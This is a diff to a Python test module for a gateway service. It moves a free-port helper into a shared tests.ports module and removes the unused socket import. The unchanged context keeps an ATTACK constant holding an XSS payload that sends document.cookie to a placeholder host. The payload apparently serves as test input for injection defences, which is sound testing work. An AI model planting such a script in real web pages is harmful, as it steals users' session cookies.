@@ -9,7 +9,6 @@ import base64
 import os
 import secrets
 import signal
-import socket
 import sys
 import time
 from collections.abc import AsyncIterator
@@ -27,6 +26,7 @@ from gateway.auth.tokens import generate_pem
 from tests.gateway.state._redis import unique_prefix
 from tests.gateway.state.servers import RedisServer, redis_process
 from tests.helpers import serve_app
+from tests.ports import free_port
 
 __all__ = ["redis_process"]  # the fixture, used below
 pytestmark = pytest.mark.slow
@@ -36,11 +36,6 @@ PASSWORD = "correct horse battery staple"
 ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"
 
 
-def free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        port: int = sock.getsockname()[1]
-        return port
 
 
 class Instance:
